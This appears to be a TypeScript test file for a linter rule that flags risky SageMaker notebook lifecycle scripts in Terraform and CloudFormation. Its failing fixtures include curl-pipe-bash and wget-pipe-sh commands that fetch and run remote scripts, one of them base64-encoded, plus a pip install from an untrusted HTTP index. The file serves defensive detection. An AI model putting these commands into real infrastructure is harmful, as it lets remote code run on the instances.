import { infraCases } from "../../../testing/infra-cases.ts";
import { sagemakerLifecycleScript } from "./sagemaker-lifecycle-script.ts";

function config(body: string): string {
  return `
resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "c" {
  name = "c"
${body}
}
`;
}

const encoded = Buffer.from("#!/bin/bash\nwget -qO- http://acme.io/x.sh | sh\n").toString("base64");

infraCases(sagemakerLifecycleScript, {
  fail: [
    config('  on_start = base64encode("curl -s https://get.acme.io/setup.sh | bash")'),
    config(`  on_create = "${encoded}"`),
    config(
      '  on_start = base64encode("pip install --trusted-host pypi.acme.io -i http://pypi.acme.io x")',
    ),
    {
      path: "template.yaml",
      text: `AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Setup:
    Type: AWS::SageMaker::NotebookInstanceLifecycleConfig
    Properties:
      OnStart:
        - Content: !Base64 |
            #!/bin/bash
            curl -s https://get.acme.io/setup.sh | bash
`,
    },
  ],
  pass: [
    config('  on_start = base64encode("pip install --require-hashes -r /opt/requirements.txt")'),
    config('  on_create = base64encode("echo hello")'),
  ],
  unknown: [`variable "s" {\n  type = string\n}\n${config("  on_start = var.s")}`],
  silent: [config("")],
});
